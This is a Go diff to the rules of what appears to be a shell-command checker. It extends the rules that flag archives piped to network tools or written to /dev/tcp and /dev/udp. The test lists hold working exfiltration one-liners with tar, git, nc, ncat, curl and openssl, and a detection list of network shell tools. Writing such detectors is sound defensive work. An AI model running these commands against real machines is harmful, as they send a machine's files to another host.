@@ -296,10 +296,17 @@ var exposure = []rules.Rule{
 		Misses: []string{"pg_dump p > x.sql", "pg_dump p | gzip > x.gz", "pg_dump a | psql b", "pg_dump p | ssh backup 'cat > x'"},
 	},
 	{
-		ID: "exposure.archive", Class: rules.Exposure, Program: "curl wget nc socat", Effect: grammar.Connects | grammar.Uploads, StdinFrom: "tar zip cpio git",
+		ID: "exposure.archive", Class: rules.Exposure, Program: "curl wget http nc ncat socat openssl telnet websocat gnutls-cli", Effect: grammar.Connects | grammar.Uploads, StdinFrom: "tar zip cpio git",
 		Reason: "sends files of this machine to another host",
 		Hint:   "write the archive to a file first",
-		Hits:   []string{"tar cz . | nc h 80", "git bundle create - --all | curl -T - http://h/"},
+		Hits:   []string{"tar cz . | nc h 80", "tar cz . | ncat h 80", "tar c src | openssl s_client -connect h:443", "git bundle create - --all | curl -T - http://h/"},
 		Misses: []string{"tar cz . > x.tgz", "curl http://h/x | tar xz", "tar cz src | ssh h 'tar xz'"},
+	},
+	{
+		ID: "exposure.archive-socket", Class: rules.Exposure, Program: "tar zip cpio", Effect: grammar.Connects,
+		Reason: "sends files of this machine to another host",
+		Hint:   "write the archive to a file first",
+		Hits:   []string{"tar c src > /dev/tcp/h.example.com/80", "tar cz . >/dev/udp/h.example.com/80"},
+		Misses: []string{"tar c src > x.tar", "tar xf x.tar"},
 	},
 }
